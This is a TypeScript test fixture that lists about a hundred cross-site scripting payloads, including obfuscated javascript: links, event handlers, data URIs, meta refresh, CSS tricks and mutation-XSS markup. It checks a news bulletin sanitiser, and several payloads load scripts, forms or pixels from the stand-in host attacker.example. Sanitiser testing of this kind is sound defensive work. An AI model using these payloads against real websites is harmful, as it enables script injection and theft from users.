// Hostile HTML for the bulletin sanitiser (server/features/publishing/sanitize.test.ts) and for the browser
// (e2e/news-xss.test.ts), in the manner of OWASP's XSS filter evasion cheat sheet and the mutation-XSS papers.
//
// A payload that runs leaves a mark the browser test watches for: a dialog (alert, confirm, prompt), a console
// message containing "xss", `window.__xss` set, or a request to another host than the server's (attacker.example).
// No payload asks for an https image on another host: those are allowed content (img-src https:), not an attack.

export type XssCase = { name: string; html: string };

export const attackerHost = 'attacker.example';
const attacker = `http://${attackerHost}`;
const mark = 'window.__xss=1';
/** `alert(1)` spelt out as decimal character references without semicolons (and padded), as the cheat sheet does. */
const paddedDecimal = [...'javascript:alert(1)'].map((c) => `&#00000${c.charCodeAt(0)}`).join('');
const hexNoSemicolon = [...'javascript:alert(1)'].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join('');
const base64Script = Buffer.from('<script>alert(1)</script>').toString('base64');
const base64Svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64');

export const xssCorpus: XssCase[] = [
  // Script elements, plain and disguised.
  { name: 'script tag', html: `<script>${mark}</script>` },
  { name: 'script in upper and mixed case', html: `<ScRiPt>alert(1)</sCrIpT>` },
  { name: 'external script', html: `<script src="${attacker}/xss.js"></script>` },
  { name: 'script with a slash for a space', html: `<SCRIPT/XSS SRC="${attacker}/xss.js"></SCRIPT>` },
  { name: 'script split around an inner one', html: `<scr<script>ipt>alert(1)</scr</script>ipt>` },
  { name: 'double open bracket', html: `<<SCRIPT>alert("XSS");//\\<</SCRIPT>` },
  { name: 'script without its end tag', html: `<SCRIPT SRC=${attacker}/xss.js?< B >` },
  { name: 'script attribute holding ">"', html: `<SCRIPT a=">" SRC="${attacker}/xss.js"></SCRIPT>` },
  { name: 'closing title first', html: `</TITLE><SCRIPT>alert("XSS");</SCRIPT>` },
  { name: 'unicode escape inside script', html: `<script>\\u0061lert(1);\\u0077indow.__xss=1</script>` },
  { name: 'script inside svg with entities', html: `<svg><script>alert&#40;1&#41;</script></svg>` },
  { name: 'conditional comment', html: `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->` },

  // Event handlers.
  { name: 'img onerror', html: `<img src=x onerror="${mark}">` },
  { name: 'img onerror without quotes', html: `<IMG SRC=/ onerror=alert(String.fromCharCode(88,83,83))></img>` },
  { name: 'img onerror with unicode escape', html: `<img src=x onerror=\\u0061lert(1)>` },
  { name: 'img onerror of entities', html: `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">` },
  { name: 'img onerror eval of src', html: `<img src=x:alert(alt) onerror=eval(src) alt=0>` },
  { name: 'img onload of a stored image', html: `<img src="/news/images/${'a'.repeat(64)}" onload="${mark}">` },
  { name: 'svg onload', html: `<svg/onload=alert('XSS')>` },
  { name: 'svg onload with console marker', html: `<svg onload="console.log('xss')"></svg>` },
  { name: 'body onload', html: `<body onload=alert(1)>` },
  { name: 'body onload with junk', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { name: 'frameset onload', html: `<frameset onload=alert(1)>` },
  { name: 'input autofocus onfocus', html: `<input autofocus onfocus="${mark}">` },
  { name: 'select autofocus onfocus', html: `<select autofocus onfocus=alert(1)></select>` },
  { name: 'textarea autofocus onfocus', html: `<textarea autofocus onfocus=alert(1)>x</textarea>` },
  { name: 'details ontoggle', html: `<details open ontoggle="${mark}"><summary>x</summary></details>` },
  { name: 'video source onerror', html: `<video><source onerror="alert(1)"></video>` },
  { name: 'audio onerror', html: `<audio src=x onerror=alert(1)></audio>` },
  { name: 'marquee onstart', html: `<marquee onstart=alert(1)>XSS</marquee>` },
  { name: 'svg animate onbegin', html: `<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>` },
  { name: 'paragraph onmouseover', html: `<p onmouseover="alert(1)" ONCLICK="alert(2)">悬停</p>` },
  { name: 'link with onclick', html: `<a href="/news/1" onclick="${mark}">新闻</a>` },
  { name: 'handler attribute after a slash', html: `<img/src="x"/onerror=alert(1)>` },
  { name: 'handler in a broken quoted attribute', html: `<img """><script>alert(1)</script>">` },
  { name: 'unclosed img', html: `<img src=x onerror=alert(1)` },

  // Dangerous URL schemes, obfuscated.
  { name: 'javascript link', html: `<a href="javascript:alert(1)">点我</a>` },
  { name: 'javascript link in mixed case', html: `<a href="JaVaScRiPt:alert(1)">点我</a>` },
  { name: 'javascript link with leading spaces', html: `<a href="  javascript:alert(1)">点我</a>` },
  { name: 'javascript link with an entity tab', html: `<a href="jav&#x09;ascript:alert(1)">点我</a>` },
  { name: 'javascript link with an entity newline', html: `<a href="java&NewLine;script:alert(1)">点我</a>` },
  { name: 'javascript link with an entity colon', html: `<a href="javascript&colon;alert(1)">点我</a>` },
  { name: 'javascript link with hex colon', html: `<a href="javascript&#x3A;alert(1)">点我</a>` },
  { name: 'javascript link all entities', html: `<a href="${hexNoSemicolon}">点我</a>` },
  { name: 'javascript link padded decimal', html: `<a href="${paddedDecimal}">点我</a>` },
  { name: 'javascript link with a NUL', html: `<a href="java\u0000script:alert(1)">点我</a>` },
  { name: 'javascript link with a control character', html: `<a href=" &#14;  javascript:alert(1)">点我</a>` },
  { name: 'vbscript link', html: `<a href="vbscript:msgbox(1)">点我</a>` },
  { name: 'data html link', html: `<a href="data:text/html;base64,${base64Script}">点我</a>` },
  { name: 'protocol-relative link', html: `<a href="//${attackerHost}/">点我</a>` },
  { name: 'img javascript src', html: `<IMG SRC="javascript:alert('XSS');">` },
  { name: 'img javascript src in backquotes', html: '<IMG SRC=`javascript:alert("XSS")`>' },
  { name: 'img src with an entity newline', html: `<IMG SRC="jav&#x0A;ascript:alert('XSS');">` },
  { name: 'img data svg', html: `<img src="data:image/svg+xml;base64,${base64Svg}">` },
  { name: 'img http to attacker', html: `<img src="${attacker}/pixel.gif">` },
  { name: 'img srcset to attacker', html: `<img src="/x.png" srcset="${attacker}/a.png 1x">` },
  { name: 'img dynsrc and lowsrc', html: `<IMG DYNSRC="javascript:alert(1)" LOWSRC="javascript:alert(1)">` },
  { name: 'input image javascript', html: `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">` },
  { name: 'body background javascript', html: `<BODY BACKGROUND="javascript:alert('XSS')">` },
  {
    name: 'table background javascript',
    html: `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td>x</td></tr></TABLE>`,
  },
  {
    name: 'svg xlink javascript',
    html: `<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>`,
  },
  { name: 'math href javascript', html: `<math href="javascript:alert(1)">CLICKME</math>` },
  { name: 'unicode-escaped scheme left as text', html: `<a href="\\u006aavascript:alert(1)">点我</a>` },

  // Frames, objects, base, meta, forms.
  { name: 'iframe javascript', html: `<iframe src="javascript:alert(1)"></iframe>` },
  { name: 'iframe srcdoc', html: `<iframe srcdoc="&lt;script&gt;parent.${mark}&lt;/script&gt;"></iframe>` },
  { name: 'iframe to attacker', html: `<iframe src="${attacker}/"></iframe>` },
  { name: 'object data html', html: `<object data="data:text/html;base64,${base64Script}"></object>` },
  { name: 'object scriptlet', html: `<OBJECT TYPE="text/x-scriptlet" DATA="${attacker}/scriptlet.html"></OBJECT>` },
  { name: 'embed svg', html: `<EMBED SRC="data:image/svg+xml;base64,${base64Svg}" type="image/svg+xml">` },
  { name: 'embed javascript', html: `<embed src="javascript:alert(1)">` },
  { name: 'base href', html: `<BASE HREF="${attacker}/"><img src="pixel.gif">` },
  { name: 'base href javascript', html: `<BASE HREF="javascript:alert('XSS');//">` },
  { name: 'meta refresh javascript', html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">` },
  {
    name: 'meta refresh data',
    html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${base64Script}">`,
  },
  { name: 'meta link stylesheet', html: `<META HTTP-EQUIV="Link" Content="<${attacker}/xss.css>; REL=stylesheet">` },
  { name: 'meta charset utf-7', html: `<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-` },
  { name: 'form action javascript', html: `<form action="javascript:alert(1)"><input type=submit></form>` },
  {
    name: 'button formaction',
    html: `<form id=f></form><button form=f formaction="javascript:alert(1)">提交</button>`,
  },
  { name: 'form to attacker', html: `<form action="${attacker}/" method=post><input name=q value=1></form>` },

  // Styles.
  { name: 'style expression', html: `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">` },
  { name: 'div style javascript url', html: `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>` },
  {
    name: 'style tag list image',
    html: `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  },
  { name: 'style import', html: `<STYLE>@import'${attacker}/xss.css';</STYLE>` },
  { name: 'link stylesheet', html: `<LINK REL="stylesheet" HREF="${attacker}/xss.css">` },
  { name: 'style background to attacker', html: `<p style="background:url(${attacker}/bg.png)">背景</p>` },

  // Mutation XSS: elements whose content a browser reads differently from a naive parser.
  { name: 'noscript title', html: `<noscript><p title="</noscript><img src=x onerror=${mark}>"></noscript>` },
  { name: 'xmp title', html: `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>` },
  { name: 'noembed title', html: `<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>` },
  { name: 'textarea title', html: `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>` },
  { name: 'title element', html: `<title><img title="</title><img src=x onerror=alert(1)>"></title>` },
  { name: 'style element title', html: `<style><img title="</style><img src=x onerror=alert(1)>"></style>` },
  { name: 'template', html: `<template><img src=x onerror=alert(1)></template><p>后文</p>` },
  {
    name: 'math mglyph style',
    html: `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  },
  {
    name: 'form math nesting',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  },
  { name: 'svg foreignObject', html: `<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>` },
  { name: 'plaintext', html: `<plaintext><img src=x onerror=alert(1)>` },

  // Comments and broken markup.
  { name: 'comment hiding an img', html: `<!--<img src="--><img src=x onerror=alert(1)//">` },
  { name: 'nested comments', html: `<!-- <!-- --> <script>alert(1)</script> -->` },
  { name: 'comment closed by --!>', html: `<!-- --!><img src=x onerror=alert(1)> -->` },
  { name: 'processing instruction', html: `<?xml version="1.0"?><img src=x onerror=alert(1)>` },
  { name: 'cdata in html', html: `<![CDATA[<img src=x onerror=alert(1)>]]>` },
  { name: 'unclosed attribute quote', html: `<a href="/news/1 onmouseover=alert(1) x=">链接</a>` },
  { name: 'attribute without a name', html: `<img ="x" src=x onerror=alert(1)>` },
  { name: 'custom element with handlers', html: `<x-y onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x-y>` },
];
